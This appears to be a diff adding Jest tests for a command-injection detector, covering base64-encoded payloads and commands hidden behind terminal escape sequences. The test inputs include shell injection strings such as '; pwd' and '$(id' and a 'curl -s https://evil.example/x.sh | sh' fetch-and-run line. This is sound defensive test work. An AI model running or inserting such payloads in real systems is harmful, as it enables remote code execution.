@@ -86,3 +86,24 @@ describe('cmdiDetector', () => {
     expect(conf(';id;', 'query.x', { isKey: true })).toBe(0);
   });
 });
+
+describe('cmdiDetector: short base64 values', () => {
+  const b64 = (s: string): string => Buffer.from(s).toString('base64');
+  it.each(['; pwd', '& id', '| id', '"|id|"', '%0Aid', '$(id', '1;id', "'; id"])('reads %s sent as base64', (payload) => {
+    expect(conf(b64(payload))).toBeGreaterThanOrEqual(0.5);
+  });
+  it.each(['Password', 'Zm9vYmFy', b64('hello'), b64('admin'), b64('; hello'), b64('Jim & Co'), 'MTIzNDU2Nzg=', 'OyBmb28='])('leaves %s', (value) => {
+    expect(conf(value)).toBeLessThan(0.5);
+  });
+});
+
+describe('cmdiDetector: commands hidden behind terminal escapes', () => {
+  it('reads the line after a cursor-moving escape as a command line, even in a many-line value', () => {
+    expect(conf('\\necho INJECTX\\nexit\\n\\033[2Awget https://evil.example/.testing/rce_vuln.txt\\n')).toBeGreaterThanOrEqual(0.5);
+    expect(conf('line one\\nline two\\nline three\\n\\x1b[1Acurl -s https://evil.example/x.sh | sh\\n')).toBeGreaterThanOrEqual(0.5);
+  });
+  it('leaves coloured log text', () => {
+    expect(conf('\\033[31mERROR\\033[0m could not open file\\nretrying in 5 seconds\\nsee the log for details and more\\n')).toBeLessThan(0.5);
+    expect(conf('\\x1b[32mok\\x1b[0m: echo test passed')).toBeLessThan(0.5);
+  });
+});
